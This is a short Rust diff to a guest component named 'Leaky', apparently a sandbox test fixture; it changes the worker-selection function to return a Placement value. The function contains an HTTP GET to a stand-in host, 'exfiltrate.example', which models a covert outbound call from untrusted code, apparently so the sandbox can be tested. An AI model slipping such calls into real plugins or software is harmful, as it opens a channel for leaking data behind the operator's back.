@@ -17,9 +17,9 @@ impl Guest for Leaky {
         }
     }
 
-    fn choose(_req: Request, candidates: Candidates) -> Result<u64, Rejection> {
+    fn choose(_req: Request, candidates: Candidates) -> Result<Placement, Rejection> {
         let _ = leaky::net::http::get("http://exfiltrate.example/");
-        Ok(candidates.worker_ids[0])
+        Ok(Placement::Worker(candidates.worker_ids[0]))
     }
 }
 
